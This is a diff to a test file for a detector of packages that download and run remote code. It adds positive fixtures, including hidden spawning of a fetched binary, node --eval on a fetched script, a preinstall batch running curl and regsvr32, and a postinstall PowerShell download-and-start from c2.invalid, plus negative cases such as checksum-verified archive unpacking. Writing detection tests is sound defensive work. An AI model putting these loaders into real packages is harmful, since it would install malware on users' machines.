@@ -47,6 +47,15 @@ examine(runsDownloadedCode, {
       says: ['it saves a download as <temp>/a.exe'],
     },
     {
+      when: 'a tool fetches a program when it is called and starts it without a window',
+      files: {
+        'index.js': `const fs = require('fs'), p = require('path').join(require('os').tmpdir(), 'engine');
+          exports.run = () => fetch('https://a.invalid/engine').then(r => r.arrayBuffer()).then(b => {
+            fs.writeFileSync(p, b); require('child_process').spawn(p, ['serve'], { windowsHide: true }); });`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a script is saved and required',
       files: {
         'index.js': `const fs = require('fs'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.js', t); require('/tmp/a.js'); })`,
@@ -82,6 +91,30 @@ examine(runsDownloadedCode, {
       },
       weight: 'proof',
     },
+    {
+      when: 'the answer is collected by chained listeners and handed to node',
+      files: {
+        'index.js': `const { execFile } = require('child_process'); require('https').get('https://stage.invalid/', r => { r.setEncoding('utf8'); let s = ''; r.on('data', p => { s += p; }).on('end', () => execFile(process.execPath, ['--eval', s])); })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a batch file of the package downloads and registers a library, unseen',
+      files: {
+        'package.json': { name: 'specimen', scripts: { preinstall: 'node c.js' } },
+        'c.js': `require('child_process').spawn('cmd.exe', ['/c', require('path').join(__dirname, 'c.bat')], { windowsHide: true })`,
+        'c.bat': '@echo off\r\ncurl http://files.invalid/s.dll -o s.dll\r\nregsvr32.exe -s s.dll\r\n',
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a script of PowerShell fetches a program and starts it',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'powershell -ExecutionPolicy Bypass -File .\\setup.ps1' } },
+        'setup.ps1': 'Invoke-WebRequest -Uri http://c2.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n',
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -105,6 +138,32 @@ examine(runsDownloadedCode, {
     {
       when: 'the server is this machine',
       files: { 'index.js': `fetch('http://127.0.0.1:8080/x').then(r => r.text()).then(t => eval(t))` },
+    },
+    {
+      when: 'a script unpacks what it has downloaded',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'sh i.sh' } },
+        'i.sh': 'curl -L -o lib.tgz https://files.invalid/lib.tgz\nsha256sum lib.tgz\ntar xzf lib.tgz\nrm lib.tgz\n',
+      },
+    },
+    {
+      when: 'a script checks what it has downloaded by its sum',
+      files: {
+        'package.json': { name: 'specimen', scripts: { install: 'bash f.sh' } },
+        'f.sh': 'curl -fsSL -o a.zip "https://source.invalid/a.zip"\necho "0000  a.zip" | sha256sum -c -\nunzip -q a.zip && rm a.zip\n',
+      },
+    },
+    {
+      when: 'a daemon of the project tells which plug-in is meant',
+      files: {
+        'index.js': `const socket = require('net').connect(globalThis.where()); socket.on('data', data => { const plugin = require(JSON.parse(String(data)).plugin); plugin(); })`,
+      },
+    },
+    {
+      when: 'a program writes what it has fetched to the terminal',
+      files: {
+        'index.js': `const fs = require('fs'); exports.go = async url => { const tty = fs.openSync('/dev/tty', 'w'); fs.writeSync(tty, await (await fetch(url)).text()); require('child_process').spawn('less', ['/dev/tty']); }`,
+      },
     },
   ],
 });
